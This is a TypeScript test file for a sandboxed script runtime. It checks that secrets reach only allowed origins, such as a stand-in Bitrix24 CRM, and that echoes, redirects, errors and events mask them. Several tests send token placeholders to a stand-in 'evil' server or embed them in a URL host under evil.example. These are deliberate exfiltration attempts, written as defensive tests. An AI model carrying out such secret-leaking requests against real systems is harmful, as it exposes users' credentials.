import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { placeholderOf } from "../../runtime/capabilities/secrets.js";
import { makeHost, type HostUnderTest } from "../capabilities/fetch-fixtures.js";
import { startCrmServer, type CrmServer } from "../helpers/crm-server.js";
import { json, startHttpServer, type TestServer } from "../helpers/http-server.js";

/**
 * Secrets never enter the sandbox and never leave for where they are not granted: exfiltration
 * through the URL, headers or body of a fetch to another origin, through a secret of another
 * script, through what a server echoes, through error messages and through the host's events.
 */

const TOKEN = 's3cr3t-T0ken/with?odd&chars="quoted" %41';
const WEBHOOK = "x7k2abc9def0ghij";
const OTHER_SECRET = "other-script-only-9f8e7d";
const secrets = { BITRIX_TOKEN: TOKEN, BITRIX_WEBHOOK: WEBHOOK, OTHER: OTHER_SECRET };
const T = placeholderOf("BITRIX_TOKEN");
const W = placeholderOf("BITRIX_WEBHOOK");

let echo: TestServer;
let evil: TestServer;
let crm: CrmServer;
const hosts: HostUnderTest[] = [];
afterEach(async () => {
  for (const made of hosts.splice(0)) await made.close();
  evil.received.length = 0;
});

beforeAll(async () => {
  echo = await startHttpServer((request, response) => {
    const url = new URL(request.url, "http://x");
    if (url.pathname === "/redirect") {
      response.writeHead(302, { location: url.searchParams.get("to") ?? "/" });
      return response.end();
    }
    const auth = String(request.headers.authorization ?? "");
    // Echoes the secret in every way a careless or hostile server could.
    return json(
      response,
      200,
      { url: request.url, headers: request.headers, body: request.body, decoded: decodeURIComponent(url.pathname), raw: auth },
      { "x-echo-auth": auth, "set-cookie": `session=${encodeURIComponent(auth)}` },
    );
  });
  evil = await startHttpServer((_, response) => json(response, 200, { stolen: true }));
  crm = await startCrmServer({
    webhookCode: WEBHOOK,
    contacts: [{ ID: "7", NAME: "Anna", ASSIGNED_BY_ID: "5", PHONE: [{ VALUE: "+79001234567", VALUE_TYPE: "WORK" }] }],
  });
});
afterAll(async () => {
  await echo.close();
  await evil.close();
  await crm.close();
});

function host(): HostUnderTest {
  const made = makeHost({
    scripts: {
      "vip-client": { fetch: { allow: [echo.origin, crm.origin] }, secrets: ["BITRIX_TOKEN", "BITRIX_WEBHOOK"] },
      other: { fetch: { allow: [echo.origin, evil.origin] }, secrets: ["OTHER"] },
    },
    secrets,
  });
  hosts.push(made);
  return made;
}

/** Nothing the host produced holds a value: answers, errors, events. */
function expectNoValues(...things: unknown[]): void {
  const text = JSON.stringify(things);
  for (const value of [TOKEN, WEBHOOK, OTHER_SECRET, encodeURIComponent(TOKEN), JSON.stringify(TOKEN).slice(1, -1)]) expect(text).not.toContain(value);
}

describe("secrets reach the allowed origin", () => {
  it("in a Bitrix24 webhook's URL path: the stand-in CRM answers; the answer's url keeps the placeholder", async () => {
    const caps = host();
    const answer = (await caps.call("fetch", {
      url: `${crm.origin}/rest/1/${W}/crm.contact.list.json`,
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ filter: { PHONE: "+79001234567" }, select: ["ID", "NAME", "ASSIGNED_BY_ID"] }),
    })) as { status: number; url: string; body: string };
    expect(answer.status).toBe(200);
    expect(answer.url).toBe(`${crm.origin}/rest/1/${W}/crm.contact.list.json`);
    expect(JSON.parse(answer.body)).toMatchObject({ result: [{ ID: "7", NAME: "Anna", ASSIGNED_BY_ID: "5" }], total: 1 });
    expect(crm.requests.at(-1)).toMatchObject({ method: "crm.contact.list", authorized: true });
    expectNoValues(answer, caps.fetchEvents, caps.faults);
  });

  it("in a header, a JSON body and a form body, each encoded for where it stands; echoes come back masked", async () => {
    const caps = host();
    const answer = (await caps.call("fetch", {
      url: `${echo.origin}/x/${T}?auth=${T}`,
      method: "POST",
      headers: { Authorization: `Bearer ${T}`, "Content-Type": "application/json" },
      body: JSON.stringify({ auth: T }),
    })) as { url: string; headers: Record<string, string>; body: string };
    const received = echo.received.at(-1)!;
    expect(received.headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(JSON.parse(received.body)).toEqual({ auth: TOKEN });
    expect(received.url).toBe(`/x/${encodeURIComponent(TOKEN)}?auth=${encodeURIComponent(TOKEN)}`);
    // What came back: every form of the value replaced by the placeholder.
    const echoed = JSON.parse(answer.body);
    expect(echoed.headers.authorization).toBe(`Bearer ${T}`);
    expect(echoed.raw).toBe(`Bearer ${T}`);
    expect(echoed.decoded).toBe(`/x/${T}`);
    expect(echoed.url).toBe(`/x/${T}?auth=${T}`);
    expect(JSON.parse(echoed.body)).toEqual({ auth: T });
    expect(answer.headers["x-echo-auth"]).toBe(`Bearer ${T}`);
    expect(answer.headers["set-cookie"]).toBe(`session=Bearer%20${T}`);
    expectNoValues(answer, caps.fetchEvents);

    await caps.call("fetch", {
      url: `${echo.origin}/form`,
      method: "POST",
      headers: { "Content-Type": "application/x-www-form-urlencoded" },
      body: `auth=${T}&x=1`,
    });
    expect(new URLSearchParams(echo.received.at(-1)!.body).get("auth")).toBe(TOKEN);
  });

  it("masks a value in the final URL of a redirect", async () => {
    const caps = host();
    const answer = (await caps.call("fetch", { url: `${echo.origin}/redirect?to=${encodeURIComponent(`/landed?t=${encodeURIComponent(T)}`)}` })) as {
      url: string;
    };
    expect(answer.url).toBe(`${echo.origin}/landed?t=${T}`);
    const leaked = (await caps.call("fetch", { url: `${echo.origin}/redirect?to=${encodeURIComponent(`/landed?t=${WEBHOOK}`)}` })) as {
      url: string;
      body: string;
    };
    expect(leaked.url).toBe(`${echo.origin}/landed?t=${W}`);
    expectNoValues(leaked);
  });
});

describe("secrets do not leave", () => {
  it.each([
    ["URL path", (origin: string) => ({ url: `${origin}/rest/1/${W}/x.json` })],
    ["query", (origin: string) => ({ url: `${origin}/?auth=${T}` })],
    ["header", (origin: string) => ({ url: `${origin}/`, headers: { "X-Token": T } })],
    ["body", (origin: string) => ({ url: `${origin}/`, method: "POST", body: JSON.stringify({ t: T }) })],
  ])("through the %s of a fetch to an origin not allowed: refused, naming the secret, nothing sent", async (_, request) => {
    const caps = host();
    const error = await caps.refused("fetch", request(evil.origin));
    expect(error.code).toBe("CS_CAP_FETCH_NOT_ALLOWED");
    expect(error.message).toMatch(
      new RegExp(
        `^fetch: ${evil.origin.replace(/\./g, "\\.")} is not allowed for vip-client \\(it carries secret BITRIX_(TOKEN|WEBHOOK), which is only ever sent to an allowed origin\\): add ${evil.origin.replace(/\./g, "\\.")} to scripts\\.vip-client\\.fetch\\.allow$`,
      ),
    );
    expect(evil.received).toEqual([]);
    expectNoValues(error, caps.fetchEvents, caps.faults);
  });

  it("through a secret not granted to the script, even to an allowed origin", async () => {
    const caps = host();
    const error = await caps.refused("fetch", { url: `${echo.origin}/`, headers: { "X-Other": placeholderOf("OTHER") } });
    expect(error).toMatchObject({
      code: "CS_CAP_SECRET_NOT_GRANTED",
      message: "fetch: secret OTHER is not granted to vip-client: add it to scripts.vip-client.secrets",
    });
    const unknown = await caps.refused("fetch", { url: `${echo.origin}/`, body: placeholderOf("NO_SUCH"), method: "POST" });
    expect(unknown.message).toBe("fetch: secret NO_SUCH is not granted to vip-client: add it to scripts.vip-client.secrets");
    expect(echo.received.filter((request) => request.headers["x-other"] !== undefined)).toEqual([]);
  });

  it("through the host part of a URL", async () => {
    const caps = host();
    expect(await caps.refused("fetch", { url: `http://${T}.evil.example/` })).toMatchObject({
      code: "CS_CAP_BAD_REQUEST",
      message: "fetch: a secret may not stand in the URL's host: the origin must be one of fetch.allow as written",
    });
  });

  it("through a redirect to another allowed origin: headers with a secret stay behind", async () => {
    const other = await startHttpServer((request, response) => json(response, 200, { headers: request.headers }));
    try {
      const caps = makeHost({ scripts: { s: { fetch: { allow: [echo.origin, other.origin] }, secrets: ["BITRIX_TOKEN"] } }, secrets });
      hosts.push(caps);
      const answer = (await caps.call("fetch", {
        url: `${echo.origin}/redirect?to=${encodeURIComponent(`${other.origin}/`)}`,
        headers: { "X-Api-Key": T, Authorization: `Bearer ${T}`, "X-Plain": "kept" },
      })) as { body: string };
      const headers = JSON.parse(answer.body).headers;
      expect(headers["x-api-key"]).toBeUndefined();
      expect(headers.authorization).toBeUndefined();
      expect(headers["x-plain"]).toBe("kept");
      expect(JSON.stringify(other.received)).not.toContain(TOKEN);
    } finally {
      await other.close();
    }
  });

  it("refuses a value that HTTP cannot carry in a header, without showing it", async () => {
    const caps = makeHost({ scripts: { s: { fetch: { allow: [echo.origin] }, secrets: ["CYRILLIC"] } }, secrets: { CYRILLIC: "пароль-секрет" } });
    hosts.push(caps);
    const error = await caps.refused("fetch", { url: `${echo.origin}/`, headers: { Authorization: `Basic ${placeholderOf("CYRILLIC")}` } });
    expect(error).toMatchObject({
      code: "CS_CAP_BAD_REQUEST",
      message: "fetch: the value of header authorization has characters HTTP headers cannot carry (outside Latin-1), once its secrets are in",
    });
    expect(JSON.stringify([error, caps.faults, caps.fetchEvents])).not.toContain("пароль");
  });

  it("through the message of a failed fetch, its log detail or an event", async () => {
    const closed = await startHttpServer(() => {});
    const origin = closed.origin;
    await closed.close();
    const caps = makeHost({ scripts: { s: { fetch: { allow: [origin], timeoutMs: 200 }, secrets: ["BITRIX_TOKEN", "BITRIX_WEBHOOK"] } }, secrets });
    hosts.push(caps);
    const refused = await caps.refused("fetch", { url: `${origin}/rest/1/${W}/x.json?auth=${T}`, headers: { Authorization: T } });
    expect(refused.message).toBe(`fetch: ${origin} refused the connection`);
    const hang = await startHttpServer(() => {});
    try {
      const slow = makeHost({ scripts: { s: { fetch: { allow: [hang.origin], timeoutMs: 200 }, secrets: ["BITRIX_TOKEN"] } }, secrets });
      hosts.push(slow);
      const timedOut = await slow.refused("fetch", { url: `${hang.origin}/${T}`, method: "POST", body: T });
      expect(timedOut.code).toBe("CS_CAP_FETCH_TIMEOUT");
      expectNoValues(refused, timedOut, caps.faults, caps.fetchEvents, slow.faults, slow.fetchEvents);
      expect(caps.faults).toHaveLength(1);
    } finally {
      await hang.close();
    }
  });
});
